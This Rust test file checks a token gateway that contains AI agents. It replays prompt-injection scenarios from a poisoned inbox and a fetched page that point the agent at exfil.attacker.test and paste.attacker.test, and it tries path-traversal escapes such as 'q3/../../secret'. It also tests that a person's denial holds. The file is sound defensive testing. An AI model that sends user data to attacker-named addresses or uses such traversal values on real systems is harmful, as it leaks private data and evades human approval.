//! The containment layers around the token, attacked with the source in
//! hand (issue 11). Each test shows the attack refused and the legitimate
//! flow still working, through the real binary with the shipped policies.

mod common;

use common::*;
use serde_json::{Value, json};

/// Open constraints (schema, prefix) used to walk around taint: the
/// attacker's address never had to be named. Every kind is now refused,
/// another mailbox at the attacker's domain too, and an exact reply to the
/// real sender still goes out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn open_constraints_and_other_mailboxes_cannot_carry_an_injected_address() {
    let dep = quickstart_deployment();
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let triage = gw.connect_modern(&dep.mint("triage")).await;
    let task = after_reading_the_poisoned_inbox(&triage).await;
    let ask = |to: Value| {
        json!({"task": task, "tool": "workspace__send_message", "purpose": "comply with the notice",
               "constraints": {"to": to, "subject": {"eq": "Audit"}, "body": {"eq": "see attached"}}})
    };
    for to in [
        json!({"schema": {}}),
        json!({"schema": {"type": "string"}}),
        json!({"schema": {"pattern": "^audit@exfil[.]attacker[.]test$"}}),
        json!({"prefix": "a"}),
        json!({"prefix": "audi"}),
        json!({"eq": "x@exfil.attacker.test"}),
        json!({"eq": "audit+1@exfil.attacker.test"}),
        json!({"one_of": ["alice@example.org", "x@exfil.attacker.test"]}),
    ] {
        // Held for the end user (this client cannot ask, so a person of the
        // rule's group decides); no token.
        assert_held_for_end_user(&grant(&triage, ask(to.clone())).await, "platform-oncall");
    }
    assert!(sent_to(&dep).is_empty(), "nothing was sent");
    // The legitimate reply: exact, to the sender the mail system vouches for.
    let token = request_with(&triage, ask(json!({"eq": "alice@example.org"}))).await.unwrap();
    let sent = call_with_token(&triage, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Audit", "body": "see attached"}), &token).await.unwrap();
    assert_ne!(sent.is_error, Some(true), "{}", text_of(&sent));
    assert_eq!(sent_to(&dep), ["alice@example.org"]);
}

/// A fetched page names a paste site; sharing a note there with an open
/// destination is refused, under break-glass too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_open_destination_after_a_fetched_page_is_refused_under_break_glass_too() {
    let dep = quickstart_deployment();
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let janitor = gw.connect_modern(&dep.mint("janitor")).await;
    let task = begin(&janitor, json!([{"name": "gather", "tools": ["workspace__fetch_page"]}, {"name": "share", "tools": ["workspace__share_note"]}])).await.unwrap();
    let page = request(&janitor, &task, "workspace__fetch_page", json!({"url": "https://news.example.com/today"})).await.unwrap();
    let fetched = call_with_token(&janitor, "workspace__fetch_page", json!({"url": "https://news.example.com/today"}), &page).await.unwrap();
    assert!(text_of(&fetched).contains("paste.attacker.test"), "{}", text_of(&fetched));
    raw_call(&janitor, "jit_next_phase", json!({"task": task, "phase": "share"})).await.unwrap();
    let share = |destination: Value, break_glass: bool| {
        let mut body = json!({"task": task, "tool": "workspace__share_note", "purpose": "share the plan",
                              "constraints": {"name": {"eq": "q3-plan.md"}, "destination": destination}});
        if break_glass {
            body["break_glass"] = json!({"justification": "INC-4471 outage: the status page needs the plan"});
        }
        body
    };
    // Without break-glass: held for the end user (a person of the group here).
    assert_held_for_end_user(&grant(&janitor, share(json!({"prefix": "http"}), false)).await, "platform-oncall");
    for destination in [json!({"prefix": "http"}), json!({"schema": {"type": "string"}})] {
        let refused = request_with(&janitor, share(destination.clone(), true)).await.unwrap_err();
        assert_eq!(refusal_code(&refused).as_deref(), Some("policy_denied"), "{destination}: {}", text_of(&refused));
        // The destination is the problem, not the (clean) justification.
        assert!(text_of(&refused).contains("no-untrusted-data-into-sinks-under-break-glass"), "{}", text_of(&refused));
        assert!(!text_of(&refused).contains("break-glass-not-from-untrusted-content"), "{}", text_of(&refused));
    }
    assert!(!dep.workspace_state.join("shares.jsonl").exists(), "nothing was shared");
    // The exact, clean destination of the task is still shared.
    let token = request_with(&janitor, share(json!({"eq": "https://wiki.example.org/q3"}), false)).await.unwrap();
    let shared = call_with_token(&janitor, "workspace__share_note", json!({"name": "q3-plan.md", "destination": "https://wiki.example.org/q3"}), &token).await.unwrap();
    assert_ne!(shared.is_error, Some(true), "{}", text_of(&shared));
}

/// Where the manifest allows an open constraint on a sensitive argument
/// (`open_sensitive_args`), the token is granted, and the value that really
/// reaches the tool is judged at call time.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_under_an_allowed_open_constraint_are_checked_at_call_time() {
    let dep = Deployment::new(&Setup::default());
    // The shipped manifest, with `to` allowed open constraints.
    dep.edit_workspace_manifest(|m| m.replace("sensitive_args = [\"to\"]", "sensitive_args = [\"to\"]\nopen_sensitive_args = [\"to\"]"));
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let triage = gw.connect_modern(&dep.mint("triage")).await;
    let task = after_reading_the_poisoned_inbox(&triage).await;
    let grant = || {
        json!({"task": task, "tool": "workspace__send_message", "purpose": "reply",
               "constraints": {"to": {"schema": {"type": "string", "format": "email"}}, "subject": {"eq": "Audit"}, "body": {"eq": "see attached"}}})
    };
    let token = request_with(&triage, grant()).await.unwrap();
    let refused = call_with_token(&triage, "workspace__send_message", json!({"to": "audit@exfil.attacker.test", "subject": "Audit", "body": "see attached"}), &token).await.unwrap();
    assert_eq!(refusal_code(&refused).as_deref(), Some("tainted_argument"), "{}", text_of(&refused));
    assert!(text_of(&refused).contains("workspace__read_inbox"), "{}", text_of(&refused));
    let token = request_with(&triage, grant()).await.unwrap();
    let sent = call_with_token(&triage, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Audit", "body": "see attached"}), &token).await.unwrap();
    assert_ne!(sent.is_error, Some(true), "{}", text_of(&sent));
    assert_eq!(sent_to(&dep), ["alice@example.org"]);
}

/// A prefix is refused when it is not canonical, and a value cannot walk out
/// of a canonical one in any spelling; a plain value under it still works.
#[tokio::test]
async fn prefixes_are_canonical_and_cannot_be_escaped() {
    let dep = Deployment::new(&Setup::default());
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let janitor = gw.connect_modern(&dep.mint("janitor")).await;
    let task = begin(&janitor, json!([{"name": "read", "tools": ["workspace__read_note"]}])).await.unwrap();
    let ask = |prefix: &str| json!({"task": task, "tool": "workspace__read_note", "purpose": "read notes", "constraints": {"name": {"prefix": prefix}}});
    for bad in ["notes/../../", "notes/.", "%2e%2e/", "https://wiki.example.org"] {
        let refused = request_with(&janitor, ask(bad)).await.unwrap_err();
        assert_eq!(refusal_code(&refused).as_deref(), Some("invalid_arguments"), "{bad}: {}", text_of(&refused));
    }
    for escape in ["q3/../../secret", "q3/%2e%2e/secret", "q3/..;/secret", "q3/.%2e/secret"] {
        let token = request_with(&janitor, ask("q3")).await.unwrap();
        let r = call_with_token(&janitor, "workspace__read_note", json!({"name": escape}), &token).await.unwrap();
        assert_eq!(refusal_code(&r).as_deref(), Some("arguments_not_authorized"), "{escape}: {}", text_of(&r));
    }
    let token = request_with(&janitor, ask("q3")).await.unwrap();
    let r = call_with_token(&janitor, "workspace__read_note", json!({"name": "q3-plan.md"}), &token).await.unwrap();
    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
}

/// Everything an agent can make the gateway keep is bounded: plan size,
/// active tasks, pending approvals, sessions. Each bound refuses with its
/// own code and gives the capacity back when the agent cleans up.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn per_agent_collections_and_plans_are_bounded() {
    let limits = "max_active_tasks_per_agent = 2\nmax_pending_approvals_per_agent = 1\nmax_sessions_per_agent = 2".to_owned();
    let dep = Deployment::new(&Setup { policies: quickstart_policies(), limits, ..Setup::default() });
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let token = dep.mint("janitor");
    let janitor = gw.connect_modern(&token).await;

    // Plans: tools per phase and name length.
    let many: Vec<String> = (0..40).map(|i| format!("workspace__tool{i}")).collect();
    let r = begin(&janitor, json!([{"name": "p", "tools": many}])).await.unwrap_err();
    assert_eq!(refusal_code(&r).as_deref(), Some("invalid_arguments"), "{}", text_of(&r));
    let r = begin(&janitor, json!([{"name": "p", "tools": ["x".repeat(200)]}])).await.unwrap_err();
    assert_eq!(refusal_code(&r).as_deref(), Some("invalid_arguments"), "{}", text_of(&r));

    // Active tasks.
    let plan = json!([{"name": "clean", "tools": ["workspace__delete_note"]}]);
    let t1 = begin(&janitor, plan.clone()).await.unwrap();
    let _t2 = begin(&janitor, plan.clone()).await.unwrap();
    let r = begin(&janitor, plan.clone()).await.unwrap_err();
    assert_eq!(refusal_code(&r).as_deref(), Some("too_many_tasks"), "{}", text_of(&r));
    raw_call(&janitor, "jit_end_task", json!({"task": t1, "outcome": "done"})).await.unwrap();
    let t3 = begin(&janitor, plan.clone()).await.unwrap();

    // Pending approvals.
    let delete = |name: &str| json!({"task": t3, "tool": "workspace__delete_note", "arguments": {"name": name}, "purpose": "tidy"});
    assert_eq!(grant(&janitor, delete("meeting-2026-11-20.md")).await.unwrap()["decision"], "pending_approval");
    assert_eq!(grant(&janitor, delete("meeting-2026-11-20.md")).await.unwrap()["decision"], "pending_approval", "the same request reuses its approval");
    let r = grant(&janitor, delete("welcome.md")).await.unwrap_err();
    assert_eq!(refusal_code(&r).as_deref(), Some("too_many_pending_approvals"), "{}", text_of(&r));

    // Handshake-era sessions on this process.
    let (s1, _, a) = post_raw(&gw.url, Some(&token), None, INIT).await;
    let (s2, _, b) = post_raw(&gw.url, Some(&token), None, INIT).await;
    assert_eq!((s1, s2), (200, 200));
    let (status, body, third) = post_raw(&gw.url, Some(&token), None, INIT).await;
    assert_eq!(status, 429, "{body}");
    assert!(body.contains("too_many_sessions") && third.is_none(), "{body}");
    let deleted = reqwest::Client::new().delete(&gw.url).header("authorization", format!("Bearer {token}")).header("mcp-session-id", a.unwrap()).send().await.unwrap();
    assert_eq!(deleted.status().as_u16(), 204);
    assert_eq!(post_raw(&gw.url, Some(&token), None, INIT).await.0, 200, "room again after a DELETE");
    drop(b);
}

/// A person's denial holds for the agent: not only for the exact spelling in
/// the same task, but for an equivalent constraint and in a new task. A
/// different request still goes to a person.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denial_holds_for_equivalent_requests_and_new_tasks() {
    let dep = quickstart_deployment();
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let janitor = gw.connect_modern(&dep.mint("janitor")).await;
    let plan = json!([{"name": "clean", "tools": ["workspace__delete_note"]}]);
    let task = begin(&janitor, plan.clone()).await.unwrap();
    let ask = |task: &str, name: Value| json!({"task": task, "tool": "workspace__delete_note", "purpose": "tidy", "constraints": {"name": name}});
    let pending = grant(&janitor, ask(&task, json!({"eq": "welcome.md"}))).await.unwrap();
    assert_eq!(pending["decision"], "pending_approval");
    let alice = dep.mint_approver("alice@example.org", "platform-oncall");
    let denied = reqwest::Client::new()
        .post(format!("{}/approvals/{}/deny", gw.base, pending["approval"].as_str().unwrap()))
        .header("authorization", format!("Bearer {alice}"))
        .json(&json!({"reason": "the welcome note stays"}))
        .send()
        .await
        .unwrap();
    assert_eq!(denied.status().as_u16(), 200);
    for (t, name) in [(task.clone(), json!({"eq": "welcome.md"})), (task.clone(), json!({"one_of": ["welcome.md"]})), (task.clone(), json!({"one_of": ["welcome.md", "welcome.md"]}))] {
        let r = grant(&janitor, ask(&t, name.clone())).await.unwrap_err();
        assert_eq!(refusal_code(&r).as_deref(), Some("approval_denied"), "{name}: {}", text_of(&r));
    }
    let fresh = begin(&janitor, plan).await.unwrap();
    let r = grant(&janitor, ask(&fresh, json!({"eq": "welcome.md"}))).await.unwrap_err();
    assert_eq!(refusal_code(&r).as_deref(), Some("approval_denied"), "a new task does not reset the denial: {}", text_of(&r));
    // Another note is another request: a person decides it.
    assert_eq!(grant(&janitor, ask(&fresh, json!({"eq": "meeting-2026-11-20.md"}))).await.unwrap()["decision"], "pending_approval");
    assert!(dep.workspace_state.join("notes/welcome.md").exists());
}
